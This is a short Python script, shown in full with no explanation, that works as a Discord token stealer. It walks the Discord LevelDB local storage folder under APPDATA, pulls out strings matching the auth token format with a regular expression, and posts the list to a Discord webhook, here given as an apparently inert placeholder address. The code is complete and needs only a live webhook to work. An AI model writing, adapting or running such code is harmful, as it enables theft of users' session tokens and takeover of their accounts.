import os, re, requests
roaming = os.getenv('APPDATA')
path = roaming + '\\discord\\Local Storage\\leveldb'
tokens = []
for f in os.listdir(path):
    for line in open(os.path.join(path, f), errors='ignore'):
        tokens += re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', line)
requests.post('https://discord.com/api/webhooks/000/inert-fixture', json={'content': str(tokens)})
